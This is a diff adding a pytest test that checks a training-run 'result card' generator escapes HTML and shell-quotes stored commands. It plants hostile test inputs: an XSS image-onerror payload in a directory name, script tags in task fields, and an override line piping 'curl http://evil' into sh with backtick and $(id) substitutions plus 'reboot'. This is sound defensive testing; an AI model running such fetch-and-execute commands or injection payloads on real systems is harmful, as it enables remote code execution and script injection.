@@ -4,6 +4,8 @@ from __future__ import annotations
 
 import hashlib
 import json
+import shlex
+import subprocess
 from pathlib import Path
 
 import pytest
@@ -101,6 +103,27 @@ def test_card_text_contains_protocol_and_results(tmp_path: Path, capsys: pytest.
     assert (run / "CARD.md").is_file()
     with pytest.raises(ConfigError, match=r"config.yaml is missing"):
         build_card(tmp_path)
+
+
+def test_texts_of_a_run_are_no_markup_and_no_shell_commands(tmp_path: Path) -> None:
+    run = carded(tmp_path).rename(tmp_path / "evil<img src=x onerror=alert(9)>")
+    rows = [json.loads(line) for line in (run / "eval/step_000003/episodes.jsonl").read_text().splitlines()]
+    for number, row in enumerate(rows):
+        row["task"] = ("<script>a</script>", "a|`b`[c](http://d)")[number % 2]
+    (run / "eval/step_000003/episodes.jsonl").write_text("".join(json.dumps(row) + "\n" for row in rows))
+    command = "train a=b; curl http://evil|sh `id` $(id) <script>"
+    (run / "overrides.txt").write_text(f"# attempt 1: {command}\n# attempt 2: train c; reboot\n# attempt 3: train 'd\n")
+    text = "\n".join(
+        line for line in card_text(card_of(run)).splitlines() if not line.startswith("| command | ``embodyrl")
+    )
+    assert "<" not in text
+    assert text.startswith("# Result card: evil&lt;img src=x onerror=alert(9)&gt;\n")
+    assert r"| a\|\`b\`[c\](http://d) |" in text
+    first, second = card_of(run)["command"].split(" && ")
+    assert shlex.split(first) == ["embodyrl", *command.split()]
+    script = f"embodyrl() {{ printf '%s\\n' \"$@\"; }}; {first}; {second}"
+    lines = subprocess.run(["bash", "-c", script], capture_output=True, text=True, check=True).stdout.splitlines()
+    assert lines == [*command.split(), "train", "--resume", run.name, "c;", "reboot"]
 
 
 def test_card_contains_own_source_files_and_their_pythonpath(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
